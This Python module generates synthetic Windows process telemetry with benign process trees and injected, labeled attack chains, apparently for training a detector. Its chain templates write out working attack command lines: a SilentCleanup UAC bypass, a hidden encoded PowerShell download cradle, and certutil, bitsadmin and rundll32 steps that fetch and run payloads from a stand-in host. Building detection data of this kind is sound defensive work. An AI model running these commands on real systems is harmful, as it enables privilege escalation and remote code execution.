"""Synthetic labeled process telemetry.

Generates a benign Windows process-tree background (hand-curated
catalog of common parent-child relations, weighted by rough real-world
frequency) and injects living-off-the-land attack chains as connected
parent-child subtrees labeled MALICIOUS. Used for training, threshold
calibration, and the acceptance suite.

Output is deterministic for a fixed seed: hosts generate independently
from derived seeds, and events are emitted in a canonical sort order.
The admin profile deliberately includes benign encoded-PowerShell
patterns so calibration sees realistic false-positive pressure.
"""

from __future__ import annotations

import json
import random
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from typing import Dict, List, Optional, Sequence

from .ingest import (EventType, IntegrityLevel, Label, ProcessEvent,
                     SignatureStatus, TriState)

SYSTEM_USER = "NT AUTHORITY\\SYSTEM"

_BENIGN_ENCODED = [
    # base64("Get-HotFix | Select -First 5") and friends: admin upkeep scripts
    "RwBlAHQALQBIAG8AdABGAGkAeAAgAHwAIABTAGUAbABlAGMAdAAgAC0ARgBpAHIAcwB0ACAANQA=",
    "RwBlAHQALQBTAGUAcgB2AGkAYwBlACAAfAAgAFcAaABlAHIAZQAgAFMAdABhAHQAdQBzACAALQBlAHEAIABSAHUAbgBuAGkAbgBnAA==",
    "VQBwAGQAYQB0AGUALQBNAG8AZAB1AGwAZQAgAC0ATgBhAG0AZQAgAFAAUwBSAGUAYQBkAEwAaQBuAGUA",
]


@dataclass
class _Rule:
    profile: str
    parent: str
    child: str
    path: str
    cmdlines: List[str]
    weight: float
    user_mode: str = "inherit"      # system | inherit | user
    integrity: str = "auto"         # auto | low | medium | high | system
    signature: SignatureStatus = SignatureStatus.SIGNED_VALID
    term_prob: float = 0.6
    life_range: tuple = (1.0, 600.0)


def _sys32(exe: str) -> str:
    return f"C:\\Windows\\System32\\{exe}"


_CATALOG: List[_Rule] = [
    # services profile: SYSTEM service tree churn
    _Rule("services", "services.exe", "svchost.exe", _sys32("svchost.exe"),
          ["C:\\Windows\\System32\\svchost.exe -k netsvcs -p",
           "C:\\Windows\\System32\\svchost.exe -k LocalService -p",
           "C:\\Windows\\System32\\svchost.exe -k UnistackSvcGroup"],
          6.0, "system", term_prob=0.1, life_range=(3600, 43200)),
    _Rule("services", "services.exe", "spoolsv.exe", _sys32("spoolsv.exe"),
          ["C:\\Windows\\System32\\spoolsv.exe"], 1.0, "system",
          term_prob=0.1, life_range=(3600, 43200)),
    _Rule("services", "services.exe", "msiexec.exe", _sys32("msiexec.exe"),
          ["C:\\Windows\\System32\\msiexec.exe /V"], 0.8, "system"),
    _Rule("services", "svchost.exe", "taskhostw.exe", _sys32("taskhostw.exe"),
          ["taskhostw.exe KEYROAMING", "taskhostw.exe"], 4.0, "system"),
    _Rule("services", "svchost.exe", "wmiprvse.exe",
          "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
          ["C:\\Windows\\system32\\wbem\\wmiprvse.exe"], 3.0, "system"),
    _Rule("services", "svchost.exe", "dllhost.exe", _sys32("dllhost.exe"),
          ["C:\\Windows\\system32\\DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}"],
          2.5, "system"),
    _Rule("services", "svchost.exe", "searchindexer.exe",
          _sys32("SearchIndexer.exe"),
          ["C:\\Windows\\system32\\SearchIndexer.exe /Embedding"], 1.5,
          "system", term_prob=0.2, life_range=(3600, 43200)),
    _Rule("services", "svchost.exe", "runtimebroker.exe",
          _sys32("RuntimeBroker.exe"),
          ["C:\\Windows\\System32\\RuntimeBroker.exe -Embedding"], 3.5, "user"),
    _Rule("services", "svchost.exe", "backgroundtaskhost.exe",
          _sys32("backgroundTaskHost.exe"),
          ["\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca"],
          2.0, "user"),
    _Rule("services", "svchost.exe", "sihost.exe", _sys32("sihost.exe"),
          ["sihost.exe"], 1.5, "user", term_prob=0.2),
    _Rule("services", "svchost.exe", "wuauclt.exe", _sys32("wuauclt.exe"),
          ["C:\\Windows\\system32\\wuauclt.exe /RunHandlerComServer"], 1.0,
          "system"),
    _Rule("services", "svchost.exe", "gpupdate.exe", _sys32("gpupdate.exe"),
          ["gpupdate /target:computer"], 0.8, "system"),
    _Rule("services", "svchost.exe", "ctfmon.exe", _sys32("ctfmon.exe"),
          ["\"ctfmon.exe\""], 1.2, "user", term_prob=0.2),
    # office profile: interactive desktop work
    _Rule("office", "explorer.exe", "chrome.exe",
          "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
          ["\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\""],
          5.0, "user", term_prob=0.4, life_range=(600, 28800)),
    _Rule("office", "chrome.exe", "chrome.exe",
          "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
          ["\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US",
           "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService"],
          6.0, "inherit", term_prob=0.5, life_range=(60, 14400)),
    _Rule("office", "explorer.exe", "msedge.exe",
          "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
          ["\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\""],
          2.5, "user", term_prob=0.4, life_range=(600, 28800)),
    _Rule("office", "explorer.exe", "winword.exe",
          "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
          ["\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\{user}\\Documents\\report_{i}.docx\""],
          3.0, "user", term_prob=0.5, life_range=(300, 14400)),
    _Rule("office", "explorer.exe", "excel.exe",
          "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
          ["\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" \"C:\\Users\\{user}\\Documents\\budget_{i}.xlsx\""],
          2.5, "user", term_prob=0.5, life_range=(300, 14400)),
    _Rule("office", "explorer.exe", "outlook.exe",
          "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
          ["\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\""],
          2.0, "user", term_prob=0.2, life_range=(3600, 36000)),
    _Rule("office", "outlook.exe", "winword.exe",
          "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
          ["\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n /dde"],
          1.0, "inherit", term_prob=0.5, life_range=(60, 3600)),
    _Rule("office", "explorer.exe", "teams.exe",
          "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
          ["\"Teams.exe\""], 2.0, "user", term_prob=0.2,
          life_range=(3600, 36000)),
    _Rule("office", "explorer.exe", "notepad.exe", _sys32("notepad.exe"),
          ["notepad.exe C:\\Users\\{user}\\notes_{i}.txt", "notepad.exe"],
          2.0, "user", life_range=(30, 3600)),
    _Rule("office", "explorer.exe", "onedrive.exe",
          "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
          ["\"OneDrive.exe\" /background"], 1.5, "user", term_prob=0.2),
    _Rule("office", "explorer.exe", "acrord32.exe",
          "C:\\Program Files (x86)\\Adobe\\Acrobat Reader DC\\Reader\\AcroRd32.exe",
          ["\"AcroRd32.exe\" \"C:\\Users\\{user}\\Downloads\\invoice_{i}.pdf\""],
          1.2, "user", life_range=(60, 3600)),
    _Rule("office", "winword.exe", "splwow64.exe",
          "C:\\Windows\\splwow64.exe", ["C:\\Windows\\splwow64.exe 12288"],
          0.8, "inherit", life_range=(10, 600)),
    _Rule("office", "explorer.exe", "snippingtool.exe",
          _sys32("SnippingTool.exe"), ["\"SnippingTool.exe\""], 0.8, "user",
          life_range=(20, 900)),
    _Rule("office", "explorer.exe", "updater.exe",
          "C:\\Program Files\\VendorSync\\updater.exe",
          ["\"updater.exe\" --check"], 0.6, "user",
          signature=SignatureStatus.UNSIGNED, life_range=(5, 120)),
    # admin profile: shells, CLI tooling, scheduled scripting
    _Rule("admin", "explorer.exe", "cmd.exe", _sys32("cmd.exe"),
          ["\"C:\\Windows\\system32\\cmd.exe\""], 3.0, "user",
          term_prob=0.5, life_range=(60, 7200)),
    _Rule("admin", "explorer.exe", "powershell.exe",
          "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
          ["\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\""],
          2.0, "user", term_prob=0.5, life_range=(60, 7200)),
    _Rule("admin", "cmd.exe", "ipconfig.exe", _sys32("ipconfig.exe"),
          ["ipconfig"], 1.5, "inherit", term_prob=0.9, life_range=(0.2, 3)),
    _Rule("admin", "cmd.exe", "ping.exe", _sys32("PING.EXE"),
          ["ping -n 2 fileserver01", "ping -n 2 10.10.4.1"], 1.5, "inherit",
          term_prob=0.9, life_range=(1, 10)),
    _Rule("admin", "cmd.exe", "whoami.exe", _sys32("whoami.exe"),
          ["whoami"], 0.8, "inherit", term_prob=0.9, life_range=(0.2, 2)),
    _Rule("admin", "cmd.exe", "net.exe", _sys32("net.exe"),
          ["net use", "net view \\\\fileserver01"], 1.0, "inherit",
          term_prob=0.9, life_range=(0.5, 5)),
    _Rule("admin", "cmd.exe", "robocopy.exe", _sys32("Robocopy.exe"),
          ["robocopy C:\\Users\\{user}\\Documents \\\\fileserver01\\backup_{user} /MIR /R:1"],
          0.8, "inherit", term_prob=0.8, life_range=(10, 900)),
    _Rule("admin", "cmd.exe", "findstr.exe", _sys32("findstr.exe"),
          ["findstr /s /i error C:\\logs\\*.log"], 0.7, "inherit",
          term_prob=0.9, life_range=(0.5, 30)),
    _Rule("admin", "cmd.exe", "xcopy.exe", _sys32("xcopy.exe"),
          ["xcopy C:\\build \\\\fileserver01\\drops /E /Y"], 0.6, "inherit",
          term_prob=0.9, life_range=(2, 300)),
    _Rule("admin", "powershell.exe", "powershell.exe",
          "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
          ["powershell.exe -NoProfile -EncodedCommand " + enc
           for enc in _BENIGN_ENCODED],
          1.2, "inherit", term_prob=0.8, life_range=(2, 120)),
    _Rule("admin", "powershell.exe", "wmic.exe",
          "C:\\Windows\\System32\\wbem\\WMIC.exe",
          ["wmic logicaldisk get size,freespace,caption"], 0.7, "inherit",
          term_prob=0.9, life_range=(0.5, 10)),
    _Rule("admin", "svchost.exe", "powershell.exe",
          "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
          ["powershell.exe -NoProfile -File C:\\ProgramData\\scripts\\inventory.ps1",
           "powershell.exe -NoProfile -File C:\\ProgramData\\scripts\\push_updates.ps1"],
          1.0, "system", term_prob=0.8, life_range=(5, 300)),
    _Rule("admin", "explorer.exe", "mmc.exe", _sys32("mmc.exe"),
          ["\"mmc.exe\" C:\\Windows\\system32\\eventvwr.msc"], 0.8, "user",
          integrity="high", life_range=(60, 3600)),
    _Rule("admin", "explorer.exe", "taskmgr.exe", _sys32("Taskmgr.exe"),
          ["\"taskmgr.exe\" /4"], 0.8, "user", integrity="high",
          life_range=(30, 1800)),
]

_PROFILES = ("office", "admin", "services")

# Attack chain templates. Entries: (child name, path, command line).
# The first entry is the chain head, spawned from the anchor; the rest
# are its children. Chains emit CREATE events only, all MALICIOUS.
_CHAIN_TEMPLATES: Dict[str, dict] = {
    "discovery": {
        "anchor": "explorer.exe",
        "head": ("cmd.exe", _sys32("cmd.exe"),
                 "C:\\Windows\\system32\\cmd.exe /C ipconfig /all & arp -a & "
                 "echo %USERDOMAIN%\\%USERNAME% & net config workstation"),
        "children": [
            ("ipconfig.exe", _sys32("ipconfig.exe"), "ipconfig  /all"),
            ("arp.exe", _sys32("ARP.EXE"), "arp  -a "),
            ("tasklist.exe", _sys32("tasklist.exe"), "tasklist  /v"),
            ("sc.exe", _sys32("sc.exe"), "sc  query "),
            ("systeminfo.exe", _sys32("systeminfo.exe"), "systeminfo"),
        ],
        "techniques": ["T1033", "T1016", "T1057", "T1007", "T1082"],
    },
    "uac_bypass": {
        "anchor": "explorer.exe",
        "head": ("cmd.exe", _sys32("cmd.exe"),
                 "cmd.exe /c reg add hkcu\\Environment /v windir /d "
                 "\"cmd /K reg delete hkcu\\Environment /v windir /f && REM \" "
                 "&& schtasks /Run /TN \\Microsoft\\Windows\\DiskCleanup\\SilentCleanup /I"),
        "children": [
            ("reg.exe", _sys32("reg.exe"),
             "reg add hkcu\\Environment /v windir /d \"cmd /K reg delete "
             "hkcu\\Environment /v windir /f && REM \""),
            ("schtasks.exe", _sys32("schtasks.exe"),
             "schtasks /Run /TN \\Microsoft\\Windows\\DiskCleanup\\SilentCleanup /I"),
            ("reg.exe", _sys32("reg.exe"),
             "reg delete hkcu\\Environment /v windir /f"),
            ("cleanmgr.exe", _sys32("cleanmgr.exe"), "cleanmgr /autoclean /d C:"),
        ],
        "techniques": ["T1548.002", "T1112", "T1053.005"],
    },
    "encoded_download": {
        "anchor": "explorer.exe",
        "head": ("powershell.exe",
                 "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                 "powershell.exe -nop -w hidden -enc "
                 "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA4AC8AYQAnACkA"),
        "children": [
            ("certutil.exe", _sys32("certutil.exe"),
             "certutil -urlcache -split -f http://203.0.113.8/p.bin "
             "C:\\Users\\Public\\p.bin"),
            ("rundll32.exe", _sys32("rundll32.exe"),
             "rundll32.exe C:\\Users\\Public\\p.bin,Start"),
            ("whoami.exe", _sys32("whoami.exe"), "whoami /all"),
            ("bitsadmin.exe", _sys32("bitsadmin.exe"),
             "bitsadmin /transfer job1 /download /priority high "
             "http://203.0.113.8/u.bin C:\\Users\\Public\\u.bin"),
        ],
        "techniques": ["T1059.001", "T1105", "T1140", "T1033"],
    },
}


@dataclass
class ChainSpec:
    template: str
    host: Optional[int] = None
    day: Optional[int] = None
    count: int = 1


@dataclass
class ScenarioSpec:
    n_benign_events: int
    hosts: int = 1
    days: int = 1
    benign_profile: Dict[str, float] = field(default_factory=lambda: {
        "office": 0.45, "admin": 0.30, "services": 0.25})
    injected_chains: List[ChainSpec] = field(default_factory=list)
    seed: int = 0
    start_date: date = date(2024, 3, 11)

    def __post_init__(self):
        if self.n_benign_events <= 0 or self.hosts <= 0 or self.days <= 0:
            raise ValueError("event, host, and day counts must be positive")
        total = sum(self.benign_profile.get(p, 0.0) for p in _PROFILES)
        if abs(total - 1.0) > 1e-9:
            raise ValueError(f"benign_profile weights must sum to 1, got {total}")
        for chain in self.injected_chains:
            if chain.template not in _CHAIN_TEMPLATES:
                raise ValueError(f"unknown chain template {chain.template!r}")
            if chain.host is not None and not 0 <= chain.host < self.hosts:
                raise ValueError(f"chain host {chain.host} out of range")
            if chain.day is not None and not 0 <= chain.day < self.days:
                raise ValueError(f"chain day {chain.day} out of range")

    @classmethod
    def from_json_dict(cls, d: dict) -> "ScenarioSpec":
        chains = [
            ChainSpec(template=c["template"], host=c.get("host"),
                      day=c.get("day"), count=int(c.get("count", 1)))
            for c in d.get("injected_chains", [])
        ]
        kwargs = dict(
            n_benign_events=int(d["n_benign_events"]),
            hosts=int(d.get("hosts", 1)),
            days=int(d.get("days", 1)),
            injected_chains=chains,
            seed=int(d.get("seed", 0)),
        )
        if "benign_profile" in d:
            kwargs["benign_profile"] = {k: float(v)
                                        for k, v in d["benign_profile"].items()}
        if "start_date" in d:
            kwargs["start_date"] = date.fromisoformat(d["start_date"])
        return cls(**kwargs)

    @classmethod
    def load(cls, path) -> "ScenarioSpec":
        with open(path, "r", encoding="utf-8") as fh:
            return cls.from_json_dict(json.load(fh))


class _HostState:
    """Per-host event emitter with its own derived RNG and sequence."""

    def __init__(self, host_id: str, seed: int, users: List[str]):
        self.host_id = host_id
        self.rng = random.Random(f"{seed}:{host_id}")
        self.users = users
        self.seq = 0
        self.events: List[ProcessEvent] = []
        self.pool: Dict[tuple, Dict[str, list]] = {}  # (day) -> name -> [inst]

    def next_ids(self) -> tuple:
        self.seq += 1
        return (f"{self.host_id}-evt-{self.seq:07d}",
                f"{self.host_id}-proc-{self.seq:07d}")

    def emit_create(self, day_key, ts: datetime, name: str, path: str,
                    cmdline: str, user: str, integrity: IntegrityLevel,
                    signature: SignatureStatus, parent: Optional[dict],
                    label: Label, group_id: str, pid: int) -> dict:
        event_id, guid = self.next_ids()
        is_system = TriState.TRUE if user == SYSTEM_USER else TriState.FALSE
        elevated = (TriState.TRUE
                    if integrity in (IntegrityLevel.HIGH, IntegrityLevel.SYSTEM)
                    else TriState.FALSE)
        self.events.append(ProcessEvent(
            event_id=event_id,
            host_id=self.host_id,
            timestamp=ts,
            event_type=EventType.CREATE,
            process_guid=guid,
            pid=pid,
            ppid=parent["pid"] if parent else 0,
            process_name=name,
            process_path=path,
            command_line=cmdline,
            parent_guid=parent["guid"] if parent else None,
            parent_name=parent["name"] if parent else None,
            parent_command_line=parent["cmdline"] if parent else None,
            user=user,
            parent_user=parent["user"] if parent else None,
            signature_status=signature,
            is_elevated=elevated,
            integrity_level=integrity,
            is_system_account=is_system,
            label=label,
            group_id=group_id,
        ))
        inst = {"guid": guid, "name": name, "cmdline": cmdline, "user": user,
                "ts": ts, "pid": pid, "event_id": event_id}
        self.pool.setdefault(day_key, {}).setdefault(name, []).append(inst)
        return inst

    def emit_terminate(self, inst: dict, lifetime: float, group_id: str) -> None:
        event_id, _ = self.next_ids()
        ts = inst["ts"] + timedelta(milliseconds=int(lifetime * 1000))
        self.events.append(ProcessEvent(
            event_id=event_id,
            host_id=self.host_id,
            timestamp=ts,
            event_type=EventType.TERMINATE,
            process_guid=inst["guid"],
            pid=inst["pid"],
            process_name=inst["name"],
            command_line=inst["cmdline"],
            user=inst["user"],
            label=Label.BENIGN,
            group_id=group_id,
        ))


def _day_window(spec: ScenarioSpec, day: int) -> tuple:
    base = datetime.combine(spec.start_date + timedelta(days=day),
                            datetime.min.time(), tzinfo=timezone.utc)
    return base + timedelta(hours=7), base + timedelta(hours=19)


def _rand_ts(rng: random.Random, lo: datetime, hi: datetime) -> datetime:
    span_ms = int((hi - lo).total_seconds() * 1000)
    return lo + timedelta(milliseconds=rng.randrange(span_ms))


def _integrity_for(rule: _Rule, user: str) -> IntegrityLevel:
    if rule.integrity == "auto":
        return (IntegrityLevel.SYSTEM if user == SYSTEM_USER
                else IntegrityLevel.MEDIUM)
    return IntegrityLevel(rule.integrity.upper())


def _build_skeleton(host: _HostState, day: int, group_id: str,
                    window: tuple) -> int:
    """Boot-time service tree plus one logon session per user. Returns
    the number of CREATE events emitted."""
    rng = host.rng
    day_key = day
    boot = window[0] - timedelta(hours=rng.randrange(1, 5),
                                 minutes=rng.randrange(60))
    step = timedelta(milliseconds=500)

    def sysproc(name, parent, ts, cmdline=None):
        return host.emit_create(
            day_key, ts, name, _sys32(name), cmdline or _sys32(name),
            SYSTEM_USER, IntegrityLevel.SYSTEM, SignatureStatus.SIGNED_VALID,
            parent, Label.BENIGN, group_id, pid=rng.randrange(400, 9000))

    created = 0
    wininit = sysproc("wininit.exe", None, boot)
    created += 1
    services = sysproc("services.exe", wininit, boot + step)
    created += 1
    sysproc("lsass.exe", wininit, boot + 2 * step)
    created += 1
    winlogon = sysproc("winlogon.exe", None, boot + 3 * step)
    created += 1
    for i, karg in enumerate(("-k DcomLaunch -p", "-k RPCSS -p",
                              "-k netsvcs -p", "-k LocalServiceNetworkRestricted")):
        sysproc("svchost.exe", services, boot + (4 + i) * step,
                cmdline=f"C:\\Windows\\System32\\svchost.exe {karg}")
        created += 1
    for user in host.users:
        logon = _rand_ts(rng, window[0], window[0] + timedelta(hours=2))
        host.emit_create(
            day_key, logon, "explorer.exe", _sys32("explorer.exe"),
            "C:\\Windows\\Explorer.EXE", user, IntegrityLevel.MEDIUM,
            SignatureStatus.SIGNED_VALID, winlogon, Label.BENIGN, group_id,
            pid=rng.randrange(400, 9000))
        created += 1
    return created


# Parent names a catalog draw may need before any rule has produced one.
_BOOTSTRAP = {
    "cmd.exe": "explorer.exe",
    "powershell.exe": "explorer.exe",
    "chrome.exe": "explorer.exe",
    "winword.exe": "explorer.exe",
    "outlook.exe": "explorer.exe",
}


def _benign_draw(host: _HostState, day: int, group_id: str, window: tuple,
                 rules: List[_Rule], weights: List[float]) -> int:
    """Emit one catalog-driven benign CREATE (bootstrapping its parent if
    needed); returns how many CREATE events were emitted."""
    rng = host.rng
    rule = rng.choices(rules, weights=weights, k=1)[0]
    created = 0
    parents = host.pool.get(day, {}).get(rule.parent)
    if not parents:
        anchor = _BOOTSTRAP.get(rule.parent)
        if anchor is None:
            return 0  # no way to attach this rule on this day
        boot_rule = next(r for r in _CATALOG
                         if r.parent == anchor and r.child == rule.parent)
        created += _emit_rule(host, day, group_id, window, boot_rule)
        parents = host.pool[day][rule.parent]
        if not parents:
            return created
    created += _emit_rule(host, day, group_id, window, rule)
    return created


def _emit_rule(host: _HostState, day: int, group_id: str, window: tuple,
               rule: _Rule) -> int:
    rng = host.rng
    parents = host.pool.get(day, {}).get(rule.parent)
    if not parents:
        return 0
    parent = rng.choice(parents)
    ts = _rand_ts(rng, window[0], window[1])
    if ts <= parent["ts"]:
        ts = parent["ts"] + timedelta(seconds=1 + rng.randrange(300))
    user = {
        "system": SYSTEM_USER,
        "inherit": parent["user"],
        "user": rng.choice(host.users),
    }[rule.user_mode]
    # Literal braces occur in real command lines (COM class ids), so
    # placeholder substitution avoids str.format.
    short_user = user.rsplit("\\", 1)[-1]
    cmdline = (rng.choice(rule.cmdlines)
               .replace("{user}", short_user)
               .replace("{i}", str(rng.randrange(1, 100))))
    path = rule.path.replace("{user}", short_user)
    inst = host.emit_create(
        day, ts, rule.child, path, cmdline, user,
        _integrity_for(rule, user), rule.signature, parent,
        Label.BENIGN, group_id, pid=rng.randrange(400, 9000))
    if rng.random() < rule.term_prob:
        host.emit_terminate(inst, rng.uniform(*rule.life_range), group_id)
    return 1


def _inject_chain(host: _HostState, day: int, group_id: str, window: tuple,
                  template_name: str) -> List[str]:
    """Emit one attack chain subtree; returns its event ids in order."""
    rng = host.rng
    template = _CHAIN_TEMPLATES[template_name]
    anchors = host.pool.get(day, {}).get(template["anchor"])
    anchor = rng.choice(anchors)
    user = anchor["user"]
    ts = _rand_ts(rng, max(window[0], anchor["ts"] + timedelta(seconds=60)),
                  window[1] + timedelta(hours=1))

    name, path, cmdline = template["head"]
    head = host.emit_create(
        day, ts, name, path, cmdline, user, IntegrityLevel.MEDIUM,
        SignatureStatus.SIGNED_VALID, anchor, Label.MALICIOUS, group_id,
        pid=rng.randrange(400, 9000))
    event_ids = [head["event_id"]]
    child_ts = ts
    for name, path, cmdline in template["children"]:
        child_ts = child_ts + timedelta(milliseconds=rng.randrange(400, 2500))
        inst = host.emit_create(
            day, child_ts, name, path, cmdline, user, IntegrityLevel.MEDIUM,
            SignatureStatus.SIGNED_VALID, head, Label.MALICIOUS, group_id,
            pid=rng.randrange(400, 9000))
        event_ids.append(inst["event_id"])
    return event_ids


def generate(spec: ScenarioSpec):
    """Generate (events, manifest) for a scenario. Deterministic for a
    fixed spec; events come back in canonical order (timestamp, type,
    event id)."""
    hosts = [
        _HostState(f"ws{h + 1:02d}", spec.seed,
                   users=[f"CORP\\user{h + 1:02d}a", f"CORP\\user{h + 1:02d}b"])
        for h in range(spec.hosts)
    ]
    rules_by_profile = {
        p: [r for r in _CATALOG if r.profile == p] for p in _PROFILES}
    weights_by_profile = {
        p: [r.weight for r in rules] for p, rules in rules_by_profile.items()}
    profile_weights = [spec.benign_profile.get(p, 0.0) for p in _PROFILES]

    cells = [(h, d) for h in range(spec.hosts) for d in range(spec.days)]
    base = spec.n_benign_events // len(cells)
    quotas = {cell: base for cell in cells}
    for i in range(spec.n_benign_events - base * len(cells)):
        quotas[cells[i % len(cells)]] += 1

    for (h, d) in cells:
        host = hosts[h]
        group_id = f"{host.host_id}/{(spec.start_date + timedelta(days=d)).isoformat()}"
        window = _day_window(spec, d)
        count = _build_skeleton(host, d, group_id, window)
        stall = 0
        while count < quotas[(h, d)] and stall < 1000:
            profile = host.rng.choices(_PROFILES, weights=profile_weights,
                                       k=1)[0]
            emitted = _benign_draw(host, d, group_id, window,
                                   rules_by_profile[profile],
                                   weights_by_profile[profile])
            count += emitted
            stall = stall + 1 if emitted == 0 else 0

    manifest: Dict[str, dict] = {}
    chain_rng = random.Random(f"{spec.seed}:chains")
    chain_no = 0
    for chain in spec.injected_chains:
        for _ in range(chain.count):
            h = chain.host if chain.host is not None else chain_rng.randrange(
                spec.hosts)
            d = chain.day if chain.day is not None else chain_rng.randrange(
                spec.days)
            host = hosts[h]
            group_id = f"{host.host_id}/{(spec.start_date + timedelta(days=d)).isoformat()}"
            event_ids = _inject_chain(host, d, group_id,
                                      _day_window(spec, d), chain.template)
            manifest[f"chain-{chain_no:03d}-{chain.template}"] = {
                "template": chain.template,
                "host": host.host_id,
                "group_id": group_id,
                "event_ids": event_ids,
                "technique_tags": _CHAIN_TEMPLATES[chain.template]["techniques"],
            }
            chain_no += 1

    events = [e for host in hosts for e in host.events]
    events.sort(key=lambda e: (e.timestamp,
                               0 if e.event_type is EventType.CREATE else 1,
                               e.event_id))
    return events, {"chains": manifest}


def write_corpus(events: Sequence[ProcessEvent], manifest: dict,
                 out_dir) -> tuple:
    """Write events.jsonl + manifest.json under out_dir; returns both paths."""
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    events_path = out / "events.jsonl"
    manifest_path = out / "manifest.json"
    with open(events_path, "w", encoding="utf-8") as fh:
        for event in events:
            fh.write(event.to_json_line() + "\n")
    with open(manifest_path, "w", encoding="utf-8") as fh:
        json.dump(manifest, fh, indent=2, sort_keys=True)
        fh.write("\n")
    return events_path, manifest_path
